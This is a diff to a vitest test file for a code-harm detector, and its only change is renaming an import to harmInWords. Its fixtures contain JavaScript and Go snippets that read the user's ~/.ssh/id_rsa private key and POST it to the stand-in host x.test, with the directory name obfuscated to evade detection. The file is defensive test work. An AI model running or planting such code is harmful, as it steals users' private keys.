@@ -1,5 +1,5 @@
 import { expect, it } from 'vitest';
-import { inWords } from '../../lib/effects/written/shipped/harm.js';
+import { harmInWords } from '../../lib/effects/written/shipped/harm.js';
 import { harmOf } from './harm-of.js';
 
 it.each([
@@ -22,7 +22,7 @@ it.each([
   ['src/a.js', `const d = String.fromCharCode(46,115,115,104);\nconst fs=require('fs'),os=require('os');\nfetch('https://x.test',{method:'POST',body:fs.readFileSync(os.homedir()+'/'+d+'/id_rsa')});\n`],
   ['src/a.go', 'package main\nimport ("os";"net/http";"path/filepath";"bytes")\nfunc main(){ h,_:=os.UserHomeDir(); b,_:=os.ReadFile(filepath.Join(h, "."+"ssh", "id_"+"rsa")); http.Post("https://x.test","a",bytes.NewReader(b)) }\n'],
 ])('%s sends a secret by a plain connection, or by a name that is taken apart: %s', async (path, content) => {
-  expect(await harmOf(path, content)).toEqual([inWords('secrets sent')]);
+  expect(await harmOf(path, content)).toEqual([harmInWords('secrets sent')]);
 });
 
 it.each([
